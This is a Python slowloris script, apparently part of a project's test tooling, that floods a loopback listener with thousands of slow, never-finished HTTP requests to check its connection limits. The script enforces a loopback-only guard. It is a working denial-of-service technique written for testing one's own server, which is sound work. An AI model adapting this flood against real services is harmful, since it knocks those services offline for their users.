#!/usr/bin/env python3
"""A slowloris against an agenthold listener, to check the connection caps by hand (#11, item 1).

Opens CONNECTIONS connections to ADDR (spread over SOURCES loopback source addresses, 127.0.0.2
and up), sends each a request header that never ends and then one more header line every
--every seconds, and reopens every connection the server closes, until --seconds have passed.
Prints once a second how many are open, how many opened, and how many the server closed.

    ulimit -n 65536   # the flood needs a file handle per connection
    scripts/flood.py 127.0.0.1:8090 20000 --sources 1 --seconds 60

Send it only to a server of your own on loopback.
"""

import argparse
import asyncio
import ipaddress
import time

PARTIAL = b"GET /tunnel HTTP/1.1\r\nHost: flood\r\n"


async def one(host, port, source, every, stats, stop_at):
    while time.monotonic() < stop_at:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats["failed"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        try:
            writer.write(PARTIAL)
            while time.monotonic() < stop_at:
                try:
                    data = await asyncio.wait_for(reader.read(4096), every)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
        except OSError:
            pass
        finally:
            stats["open"] -= 1
            stats["closed"] += 1
            writer.close()
        await asyncio.sleep(0.1)


async def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("addr", help="HOST:PORT of the listener, on loopback")
    p.add_argument("connections", type=int)
    p.add_argument("--sources", type=int, default=1, help="loopback source addresses to spread over")
    p.add_argument("--every", type=float, default=5.0, help="seconds between header lines")
    p.add_argument("--seconds", type=float, default=60.0)
    a = p.parse_args()
    host, port = a.addr.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit("loopback only")
    first = ipaddress.ip_address("127.0.0.2")
    sources = [str(first + i) for i in range(a.sources)]
    stats = {"open": 0, "opened": 0, "closed": 0, "failed": 0}
    stop_at = time.monotonic() + a.seconds
    tasks = []
    for i in range(a.connections):
        tasks.append(asyncio.create_task(one(host, int(port), sources[i % len(sources)], a.every, stats, stop_at)))
        if i % 500 == 499:
            await asyncio.sleep(0)
    while time.monotonic() < stop_at:
        print(f"{time.monotonic() - stop_at + a.seconds:6.1f}s {stats}", flush=True)
        await asyncio.sleep(1)
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"end {stats}", flush=True)


asyncio.run(main())
